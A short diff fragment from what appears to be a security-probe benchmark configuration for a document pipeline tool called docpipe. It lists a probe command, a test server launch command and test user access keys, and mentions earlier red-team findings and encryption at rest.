+        "on), issue 23's five red-team findings and encryption at rest among them",
         "command": "python benchmarks/security_probes.py",
         "server": "python -m docpipe serve --preset test --home HOME --port N --engine echo --log-level info "
         "(GRADIO_TEMP_DIR in the temp dir); keys: alice deal-x:write, bob deal-y:write, carol deal-x:read, "
